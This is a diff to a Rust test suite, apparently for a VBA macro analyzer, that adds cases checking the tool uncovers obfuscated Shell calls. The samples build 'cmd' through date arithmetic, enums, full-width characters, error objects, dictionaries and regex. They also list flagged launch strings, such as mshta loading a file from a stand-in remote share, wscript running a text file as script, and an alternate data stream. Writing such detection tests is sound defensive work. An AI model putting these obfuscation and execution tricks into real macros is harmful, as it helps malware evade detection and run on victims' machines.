@@ -177,6 +177,96 @@ fn ways_to_hide_a_text() {
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
+#[test]
+fn numbers_and_texts_out_of_dates() {
+    let table: &[(&str, &str)] = &[
+        ("Shell Chr(DateDiff(\"d\", #1/1/2020#, #4/9/2020#)) & \"md\"", "cmd"),
+        ("Dim d As Date\nd = DateSerial(2020, 12, 31)\nd = d + 1\nShell Chr(Month(d) + 98) & \"md\"", "cmd"),
+        ("Shell Chr(Day(DateAdd(\"m\", 1, DateSerial(2020, 1, 31))) + 70) & \"md\"", "cmd"),
+        ("Shell Chr(Year(CDate(\"2020/01/05\")) - 1921) & \"md\"", "cmd"),
+        ("Shell Chr(DateSerial(2020, 4, 9) - DateSerial(2020, 1, 1)) & \"md\"", "cmd"),
+        ("Shell Chr(95 + Weekday(#1/1/2020#)) & Chr(DatePart(\"y\", #4/18/2020#)) & \"d\"", "cmd"),
+        ("Shell Chr(Minute(TimeValue(\"10:39:00\")) + 60) & Chr(Hour(#1:00 PM#) + 96) & \"d\"", "cmd"),
+        (
+            "Shell \"a\" & Format(DateSerial(2020, 1, 9), \"yyyymmdd\") & Format(1234.5, \"#,##0.0\")",
+            "a202001091,234.5",
+        ),
+        // Both ways, and what the clock says is not known.
+        ("If Now > #1/1/2019# Then s = \"c\": Shell s & \"md\"", "cmd"),
+        ("If Now > #1/1/2039# Then s = \"c\": Shell s & \"md\"", "cmd"),
+        ("Shell \"cmd \" & Format(Now, \"yyyy\") & Year(Date) & #1/2/2020#", "cmd …"),
+        ("Shell Chr(Day(\"1/2/2020\") + 97) & \"md\"", "…md"),
+    ];
+    for (body, expected) in table {
+        assert_eq!(runs(body), [*expected], "{body}");
+    }
+}
+
+#[test]
+fn more_ways_to_hide_a_text() {
+    let class = "Enum E\na = 98\nb\nEnd Enum\nStatic Function N()\nDim i\ni = i + 33\nN = Chr(i)\nEnd Function\n";
+    let table: &[(&str, &str)] = &[
+        ("Shell Chr(E.b) & \"md\"", "cmd"),
+        ("N\nN\nShell N & \"md\"", "cmd"),
+        ("Shell StrConv(ChrW(&HFF43) & ChrW(&HFF4D) & ChrW(&HFF44), vbNarrow)", "cmd"),
+        ("On Error GoTo h\nErr.Raise 99, , \"md\"\nExit Sub\nh:\nShell Chr(Err.Number) & Err.Description", "cmd"),
+        ("Set d = New Scripting.Dictionary\nd.CompareMode = 1\nd(\"A\") = \"cmd\"\nShell d(\"a\")", "cmd"),
+        ("Set l = CreateObject(\"System.Collections.ArrayList\")\nl.Add \"cmd\"\nl.Add \"x\"\nShell l(0)", "cmd"),
+        (
+            "Set r = CreateObject(\"VBScript.RegExp\")\nr.Pattern = \"[xy]\"\nr.Global = True\nShell r.Replace(\"cxmyd\", \"\")",
+            "cmd",
+        ),
+        ("Shell Chr(WorksheetFunction.Sum(90, 9)) & Application.Text(\"md\", \"@\")", "cmd"),
+    ];
+    for (body, expected) in table {
+        assert_eq!(details(ActionKind::Run, &format!("{class}{}", opened(body))), [*expected], "{body}");
+    }
+}
+
+#[test]
+fn what_is_only_shown_is_no_program() {
+    let shell = |command: &str| format!("CreateObject(\"WScript.Shell\").Run {command}, 1");
+    let write = "Open ThisWorkbook.Path & \"\\a.exe\" For Output As #1\n".replace("\\\\", "\\");
+    for command in [
+        "\"\"\"\" & ThisWorkbook.Path & \"\\my book.pdf\"\"\"",
+        "\"https://intra.example/help\"",
+        "\"C:\\Program Files\\Edge\\msedge.exe https://intra.example/help\"",
+        "\"explorer.exe \" & ThisWorkbook.Path",
+        "\"explorer.exe /select,\" & ThisWorkbook.Path & \"\\a.xlsx\"",
+        "\"explorer C:\\out\\\"",
+    ] {
+        let body = format!("{write}{}", shell(&command.replace("\\\\", "\\")));
+        assert!(runs(&body).is_empty(), "{command} {:?}", runs(&body));
+    }
+    for command in [
+        "\"%COMSPEC% /c C:\\a.txt\"",
+        "Range(\"Z9\").Value & \".pdf\"",
+        "\"C:\\Windows\\System32\\wscript.exe //e:vbscript C:\\a.txt\"",
+        "\"C:\\Windows\\System32\\mshta \\\\a.example\\x.txt\"",
+        "\"msedge.exe --load-extension=C:\\x https://a.example/\"",
+        "\"msedge.exe https://a.example/a.exe\"",
+        "\"explorer.exe C:\\out\\a.exe\"",
+        "\"explorer.exe \" & Range(\"Z9\").Value",
+        "\"C:\\a.csv\"",
+        "\"C:\\a.txt:b.exe\"",
+    ] {
+        let body = format!("{write}{}", shell(&command.replace("\\\\", "\\")));
+        assert_eq!(runs(&body).len(), 1, "{command}");
+    }
+    let declare = "Declare Function SE Lib \"shell32\" Alias \"ShellExecuteA\" (a, b, c, d, e, f)\n";
+    let of = |call: &str| details(ActionKind::Run, &format!("{declare}{}", opened(call)));
+    assert!(of("SE 0, \"open\", ThisWorkbook.Path & \"\\a.pdf\", \"\", \"\", 1").is_empty());
+    assert_eq!(of("SE 0, \"open\", \"bash\", \"C:/a.txt\", \"\", 1"), ["bash C:/a.txt"]);
+}
+
+#[test]
+fn a_version_hides_no_program() {
+    let hidden = |name: &str| details(ActionKind::Hidden, &opened(&format!("Set o = CreateObject({name})"))).len();
+    assert_eq!(hidden("\"Excel.Application.\" & Int(Val(Application.Version))"), 0);
+    assert_eq!(hidden("\"Excel.Applicatio\" & Range(\"Z9\")"), 1);
+    assert_eq!(hidden("Range(\"Z9\") & \".Application.\""), 1);
+}
+
 const BASE64: &str = "Function Decode(ByVal s As String) As String\n\
 Const b = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\n\
 Dim n As Long, g As Long, i As Long, j As Long, c As String, o As String, p As Integer\n\
